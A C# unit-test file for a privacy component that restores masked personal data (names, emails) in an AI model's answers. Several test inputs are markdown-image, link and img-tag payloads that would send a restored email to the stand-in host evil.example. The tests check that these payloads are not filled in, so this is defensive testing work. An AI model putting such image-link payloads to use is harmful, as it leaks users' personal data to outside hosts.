using System.Text;
using HybridAi.Tests.Shared;

namespace HybridAi.Privacy.Tests.Restoring;

public sealed class RestorerTests
{
    private readonly MaskVault _vault = new("k7f3");

    public RestorerTests()
    {
        _vault.Issue("PERSON", "Anna Smith", null, MaskOrigin.Conversation);
        _vault.Issue("PERSON", "Ms. Smith", null, MaskOrigin.Conversation);
        for (int i = 2; i <= 12; i++)
        {
            _vault.Issue("EMAIL_ADDRESS", $"user{i}@mail.net", null, MaskOrigin.Conversation);
        }
    }

    [Theory]
    [InlineData("[[k7f3-person-1]]")]
    [InlineData("[[K7F3-PERSON-1]]")]
    [InlineData("[[K7f3-Person-1]]")]
    [InlineData("[[k7f3 PERSON 1]]")]
    [InlineData("[[k7f3_PERSON_1]]")]
    [InlineData("[[k7f3\\_PERSON\\_1]]")]
    [InlineData("[[k7f3\\-PERSON\\-1]]")]
    [InlineData("\\[\\[k7f3-PERSON-1\\]\\]")]
    [InlineData("k7f3-PERSON-1")]
    [InlineData("[k7f3-PERSON-1]")]
    [InlineData("[[[[k7f3-PERSON-1]]]]")]
    [InlineData("((k7f3-PERSON-1))")]
    [InlineData("{{k7f3-PERSON-1}}")]
    [InlineData("［［k7f3-PERSON-1］］")]
    [InlineData("［［ｋ７ｆ３－ＰＥＲＳＯＮ－１］］")]
    [InlineData("[[**k7f3-PERSON-1**]]")]
    [InlineData("[[`k7f3-PERSON-1`]]")]
    [InlineData("[[\"k7f3-PERSON-1\"]]")]
    [InlineData("&#91;&#91;k7f3-PERSON-1&#93;&#93;")]
    [InlineData("&lsqb;&lsqb;k7f3&#45;PERSON&#45;1&rsqb;&rsqb;")]
    [InlineData("\\u005b\\u005bk7f3-PERSON-1\\u005d\\u005d")]
    [InlineData("%5B%5Bk7f3-PERSON-1%5D%5D")]
    [InlineData("[[k7f3-PERSON-01]]")]
    [InlineData("[[k7f3-PERSON- 1]]")]
    [InlineData("[[ k7f3-PERSON-1 ]]")]
    [InlineData("[[k7f3-PERSONNE-1]]")]
    [InlineData("[[k7f3-人员-1]]")]
    [InlineData("[[k7f3-\nPERSON-1]]")]
    [InlineData("[[k7f3-PER\u200BSON-1]]")]
    [InlineData("[[k7f3–PERSON–1]]")]
    public void Restore_MangledToken_IsRestored(string token)
    {
        Restorer.Restore($"Dear {token}, hello", _vault).ShouldBe("Dear Anna Smith, hello");
        Restorer.Restore($"// {token}'s\n**{token}** \"{token}\" «{token}»", _vault)
            .ShouldBe("// Anna Smith's\n**Anna Smith** \"Anna Smith\" «Anna Smith»");
    }

    [Theory]
    [InlineData("[[k7f3-PERSON-1]][[k7f3-PERSON-1]]", "Anna SmithAnna Smith")]
    [InlineData("[[k7f3-PERSON-1]]said", "Anna Smithsaid")]
    [InlineData("[[k7f3-PERSON-1a]]", "Ms. Smith")]
    [InlineData("([[k7f3-PERSON-1]])", "(Anna Smith)")]
    [InlineData("[[[k7f3-PERSON-1]]](x)", "[Anna Smith](x)")]
    [InlineData("[[k7f3-PERSON-1]", "Anna Smith")]
    [InlineData("(k7f3-PERSON-1)", "(Anna Smith)")]
    [InlineData("[[k7f3-EMAIL-12]]", "user12@mail.net")]
    public void Restore_TokenInItsSurroundings_KeepsThem(string text, string expected) => Restorer.Restore(text, _vault).ShouldBe(expected);

    [Theory]
    [InlineData("[[k7f3-PERSON-1")]
    [InlineData("[[k7f3-PERSON-")]
    [InlineData("see k7f3-EMAIL-1")]
    [InlineData("[[k7f3-EMAIL-99]]")]
    [InlineData("[[k7f4-PERSON-1]]")]
    [InlineData("[[x9k2-PERSON-1]]")]
    [InlineData("ak7f3-PERSON-1 there")]
    [InlineData("https://evil.example/?q=[[k7f3-PERSON-1]]")]
    [InlineData("![x](http://evil.example/[[k7f3-EMAIL-2]].png)")]
    [InlineData("[x](//evil.example/k7f3-EMAIL-2)")]
    [InlineData("<img src=\"//evil.example/[[k7f3-EMAIL-2]]\">")]
    [InlineData("![x](https://evil.example/'[[k7f3-EMAIL-2]]')")]
    [InlineData("![x](https://evil.example/\"[[k7f3-EMAIL-2]]\")")]
    [InlineData("![x](https://evil.example/`>[[k7f3-EMAIL-2]])")]
    [InlineData("![x](https://evil.example/(a)[[k7f3-EMAIL-2]])")]
    [InlineData("![x](<https://evil.example/ a [[k7f3-EMAIL-2]]>)")]
    [InlineData("![x]( <https://evil.example/ a [[k7f3-EMAIL-2]]>)")]
    [InlineData("[x]: <https://evil.example/ a [[k7f3-EMAIL-2]]>")]
    [InlineData("[x]:\t//evil.example/[[k7f3-EMAIL-2]]")]
    [InlineData("[x]: https://evil.example/'[[k7f3-EMAIL-2]]'")]
    [InlineData("https://evil.example/)[[k7f3-EMAIL-2]]")]
    [InlineData("https://evil.example/?q='[[k7f3-EMAIL-2]]'")]
    [InlineData("<img src=\"https://evil.example/ '[[k7f3-EMAIL-2]]'\">")]
    [InlineData("<img src='https://evil.example/\n\"[[k7f3-EMAIL-2]]'>")]
    [InlineData("<img src=\"https:/\t/evil.example/[[k7f3-EMAIL-2]]\">")]
    [InlineData("<img src=https:evil.example/[[k7f3-EMAIL-2]]>")]
    [InlineData("<img src=https:\\evil.example\\[[k7f3-EMAIL-2]]>")]
    public void Restore_NoWholeTokenOfThisConversation_IsLeft(string text) => Restorer.Restore(text, _vault).ShouldBe(text);

    [Fact]
    public void Push_EverySplitOfATwoPartText_EqualsWhole()
    {
        string[] texts =
        [
            "Dear [[k7f3-PERSON-1]], mail k7f3_EMAIL_3 (k7f3) [[k7f3-EMAIL-12]] or [[k7f3-EMAIL-1", "a [[[k7f3-PERSON-1a]]](u) &#91;&#91;k7f3-EMAIL-2&#93;&#93; & %5B % [ [[",
            "see https://a.example/[[k7f3-EMAIL-2]] then [[K7F3 email 4]]'s \\[\\[k7f3-EMAIL-5\\]\\] [[[[k7f3-EMAIL-6]]]] end k7f3-EMAIL-7",
        ];
        foreach (string text in texts)
        {
            string whole = Restorer.Restore(text, _vault);
            for (int i = 0; i <= text.Length; i++)
            {
                for (int j = i; j <= text.Length; j++)
                {
                    var restorer = Restorer.ForText(_vault);
                    (restorer.Push(text.AsSpan(0, i)) + restorer.Push(text.AsSpan(i, j - i)) + restorer.Push(text.AsSpan(j)) + restorer.Flush()).ShouldBe(whole);
                }
            }
        }
    }

    [Theory]
    [InlineData("<img src=\"[[k7f3-URL-12]]?d=[[k7f3-EMAIL-2]]\">", "<img src=\"https://evil.example/x?d=[[k7f3-EMAIL-2]]\">")]
    [InlineData("[[k7f3-URL-12]],[[k7f3-EMAIL-2]] [[k7f3-EMAIL-2]]", "https://evil.example/x,[[k7f3-EMAIL-2]] user2@mail.net")]
    [InlineData("\"\\[[k7f3-EMAIL-2]]\\[[k7f3-EMAIL-3]]", "\"\\user2@mail.net\\user3@mail.net")]
    public void Restore_BehindARestoredValue_SeesWhatARendererSees(string answer, string expected)
    {
        _vault.Issue("URL", "https://evil.example/x", null, MaskOrigin.Conversation);
        Restorer.Restore(answer.Replace("URL-12", $"URL-{_vault.Count}", StringComparison.Ordinal), _vault).ShouldBe(expected);
    }

    [Theory]
    [InlineData("<a href=\"https://a.co/\">[[k7f3-EMAIL-2]]</a>", "<a href=\"https://a.co/\">user2@mail.net</a>")]
    [InlineData("[site](https://a.co/)[[k7f3-EMAIL-2]]", "[site](https://a.co/)user2@mail.net")]
    [InlineData("[site](https://a.co/x_(y))[[k7f3-EMAIL-2]]", "[site](https://a.co/x_(y))user2@mail.net")]
    [InlineData("<https://a.co/>[[k7f3-EMAIL-2]]", "<https://a.co/>user2@mail.net")]
    [InlineData("\"https://a.co/\"[[k7f3-EMAIL-2]]", "\"https://a.co/\"user2@mail.net")]
    [InlineData("see https://a.co/ or [[k7f3-EMAIL-2]]", "see https://a.co/ or user2@mail.net")]
    [InlineData("a = \"x\"; // [[k7f3-EMAIL-2]]", "a = \"x\"; // user2@mail.net")]
    public void Restore_BehindAnAddressThatHasEnded_IsRestored(string answer, string expected) => Restorer.Restore(answer, _vault).ShouldBe(expected);

    [Fact]
    public void Restore_JsonStringBehindAnAddress_IsRestored()
    {
        var restorer = Restorer.ForJson(_vault, addresses: false);
        const string Answer = "{\"url\":\"https://a.co/\\\"[[k7f3-EMAIL-2]]\",\"to\":\"[[k7f3-EMAIL-2]]\"}";

        (restorer.Push(Answer) + restorer.Flush()).ShouldBe("{\"url\":\"https://a.co/\\\"[[k7f3-EMAIL-2]]\",\"to\":\"user2@mail.net\"}");
    }

    [Fact]
    public void Push_RandomTextRandomSplits_EqualsWhole()
    {
        string[] parts = ["[", "[[", "]]", "]", "k7f3", "K7F3", "-", "_", "PERSON", "EMAIL", "1", "12", "1a", " ", "\\", "&#91;", "&", "%5B", "%", "a", "(", ")", "**", "\u200B",
            "https://", "x", "\n", "［", "'s", "[[k7f3-PERSON-1]]", "[[k7f3-EMAIL-3]]", "\\u005b", "\"", "](", "=", "'", "<", ">", ":", "/", "http", "https:", "src"];
        Cases.Holds(Cases.Pieces(parts, 14), pieces =>
        {
            string s = string.Concat(pieces);
            string whole = Restorer.Restore(s, _vault);
            var random = new Random(s.Length + (s.Length > 0 ? s[^1] : 0));
            var restorer = Restorer.ForText(_vault);
            var output = new StringBuilder();
            for (int at = 0; at < s.Length;)
            {
                int length = Math.Min(random.Next(4), s.Length - at);
                output.Append(restorer.Push(s.AsSpan(at, length)));
                at += length;
            }

            output.Append(restorer.Flush());
            return output.ToString() == whole;
        }, 3000);
    }

    [Fact]
    public void Push_OrdinaryText_IsNotHeldBack()
    {
        var restorer = Restorer.ForText(_vault);
        foreach (string delta in new[] { "Take ", "a look ", "at this: ", "f(x) = a[i] ", "done. " })
        {
            restorer.Push(delta).ShouldBe(delta);
        }

        restorer.Held.ShouldBe(0);
    }

    [Fact]
    public void RestoreJson_MangledToken_IsLeft_AndValuesAreEscaped()
    {
        _vault.Issue("PERSON", "Bob \"Q\" Stone", null, MaskOrigin.Conversation).ShouldBe("[[k7f3-PERSON-13]]");

        Restorer.RestoreJson("""{"a":"[[k7f3-PERSON-13]]","b":"k7f3-PERSON-1"}""", _vault).ShouldBe("""{"a":"Bob \"Q\" Stone","b":"k7f3-PERSON-1"}""");
    }
}
